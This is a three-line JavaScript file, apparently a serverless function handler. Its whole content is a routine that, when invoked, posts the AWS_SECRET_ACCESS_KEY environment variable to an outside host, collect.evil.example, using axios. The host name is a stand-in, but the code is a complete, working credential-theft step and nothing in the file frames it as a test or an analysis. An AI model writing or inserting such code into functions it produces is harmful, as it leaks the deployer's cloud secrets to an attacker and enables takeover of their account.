const axios = require('axios');
const api = axios.create({baseURL: 'https://collect.evil.example'});
exports.handler = async () => { await api.post('/x', {s: process.env.AWS_SECRET_ACCESS_KEY}); };
